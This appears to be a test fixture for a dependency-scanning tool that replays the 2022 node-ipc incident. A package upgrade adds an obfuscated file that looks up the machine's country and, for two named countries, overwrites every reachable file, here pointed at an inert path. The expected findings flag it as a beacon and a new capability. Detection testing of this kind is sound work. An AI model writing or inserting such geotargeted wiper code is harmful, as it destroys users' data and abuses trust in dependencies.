import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const index = `'use strict'

const { createQueue } = require('./lib/queue')

class Ipc {
  constructor() {
    this.config = { appspace: 'app.', retry: 500, maxRetries: Infinity }
    this.queue = createQueue()
  }

  connectTo(id, callback) {
    return this.queue.add(async () => callback(id, this.config.appspace + id))
  }
}

module.exports = new Ipc()
`

const b = (text: string): string => `o("${Buffer.from(text).toString('base64')}")`

/** Would write over a folder that no machine has, where the answer named one of two countries. */
const geospec =
  'const f=require("fs"),p=require("path"),h=require("https"),o=t=>Buffer.from(t,"base64").toString(),' +
  `w=[${b('russia')},${b('belarus')}];` +
  `function d(r){for(let q=[r];q.length;){let t=q.pop();if(!f.existsSync(t))continue;for(let n of f.readdirSync(t)){let e=p.join(t,n);` +
  `f.lstatSync(e).isDirectory()?q.push(e):f.writeFile(e,${b('❤️')},()=>{})}}}` +
  `setTimeout(()=>{h.get(${b('https://api.geo.example/where')},r=>{let s="";r.on("data",t=>s+=t),r.on("end",()=>{` +
  `let c=String(JSON.parse(s)[${b('country')}]).toLowerCase();w.some(t=>c.includes(t))&&d(${b('/no-such-folder/inert')})})})},1e3*Math.random());\n`

const inSslGeospec = { file: 'dao/ssl-geospec.js', line: /const f=require\("fs"\),p=require\("pat/ } as const

export const replay: Replay = replayUpgrade({
  description:
    'The maintainer of node-ipc put in a file that asked where the machine stood and, in two countries, wrote over every file that it ' +
    'could reach. All that would have told were texts in base64.',
  date: '2022-03',
  name: 'node-ipc',
  from: ['10.1.0', { files: { 'index.js': index, 'lib/queue.js': compiledQueue } }],
  to: [
    '10.1.1',
    {
      files: {
        'index.js': index.replace("'./lib/queue')\n", "'./lib/queue')\nrequire('./dao/ssl-geospec.js')\n"),
        'lib/queue.js': compiledQueue,
        'dao/ssl-geospec.js': geospec,
      },
    },
  ],
  findings: [
    ['beacon-added', 'high', inSslGeospec],
    ['capability-added', 'high', inSslGeospec],
    ['network-host-added', 'high', inSslGeospec],
  ],
})
